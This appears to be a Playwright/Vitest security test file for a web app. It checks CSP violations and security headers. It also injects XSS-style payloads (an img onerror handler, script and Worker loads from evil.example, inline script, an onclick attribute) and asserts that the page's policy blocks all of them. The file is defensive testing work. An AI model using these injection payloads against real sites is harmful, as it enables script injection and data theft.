import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { launchChromium } from '../support/chromium.ts';
import { watchViolations } from '../support/policy-violations.ts';
import { stackInfo } from '../support/stack.ts';

const { web } = stackInfo().origins;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let violations: string[];

beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser.close());
beforeEach(async () => {
  context = await browser.newContext();
  violations = watchViolations(context);
  page = await context.newPage();
});
afterEach(() => context.close());

test('every page of the site does what it does within its policy', async () => {
  // Not one after the other: an address that differs by its token alone makes the link's page load itself anew.
  const paths = ['/', '/v', '/sign-in', '/sign-up', '/privacy', '/cookies', '/local', '/v#no-such-token'];
  for (const path of paths) await page.goto(`${web}${path}`, { waitUntil: 'networkidle' });
  await page.goto(web);
  await page.getByRole('button', { name: 'Choose' }).click();
  await page.getByRole('button', { name: 'Save this choice' }).click();
  expect(violations).toEqual([]);
});

test('headers forbid frames, other openers and what the browser could give away', async () => {
  for (const [path, opener] of [
    ['/v', 'same-origin'],
    ['/link.html', 'same-origin'],
    ['/studies', 'same-origin-allow-popups'],
  ] as const) {
    const { headers } = await fetch(`${web}${path}`);
    expect(headers.get('content-security-policy')).toBe("frame-ancestors 'none'");
    expect(headers.get('x-frame-options')).toBe('DENY');
    expect(headers.get('cross-origin-opener-policy')).toBe(opener);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('strict-transport-security')).toContain('max-age=');
    expect(headers.get('permissions-policy')).toContain('camera=()');
  }
});

for (const path of ['/v', '/sign-in']) {
  test(`markup that found its way into ${path} runs nothing and reaches nobody`, async () => {
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    await page.goto(`${web}${path}`, { waitUntil: 'networkidle' });
    const thrown = await page.evaluate(() => {
      const attempts: Record<string, () => unknown> = {
        markup: () => (document.body.innerHTML = '<img src="x" onerror="window.stolen = 1">'),
        worker: () => new Worker('https://evil.example/w.js'),
        blobWorker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
        address: () => (document.createElement('script').src = 'https://evil.example/s.js'),
        text: () => (document.createElement('script').text = 'window.stolen = 1'),
        handler: () => {
          document.body.setAttribute('onclick', 'window.stolen = 1');
        },
      };
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [];
        } catch {
          return [name];
        }
      });
    });
    expect(thrown).toEqual(
      expect.arrayContaining(['markup', 'worker', 'blobWorker', 'address', 'text', 'handler']),
    );
    const reached = await page.evaluate(() =>
      Promise.all(
        ['https://evil.example/', 'https://storage.googleapis.com/another-bucket/x'].map((url) =>
          fetch(url, { mode: 'no-cors' }).then(
            () => true,
            () => false,
          ),
        ),
      ),
    );
    expect(reached).toEqual([false, false]);
    await page.evaluate(() => {
      document.body.click();
    });
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
    expect(asked.filter((url) => /evil|another-bucket/.test(url))).toEqual([]);
    expect(violations.length).toBeGreaterThan(0);
  });
}
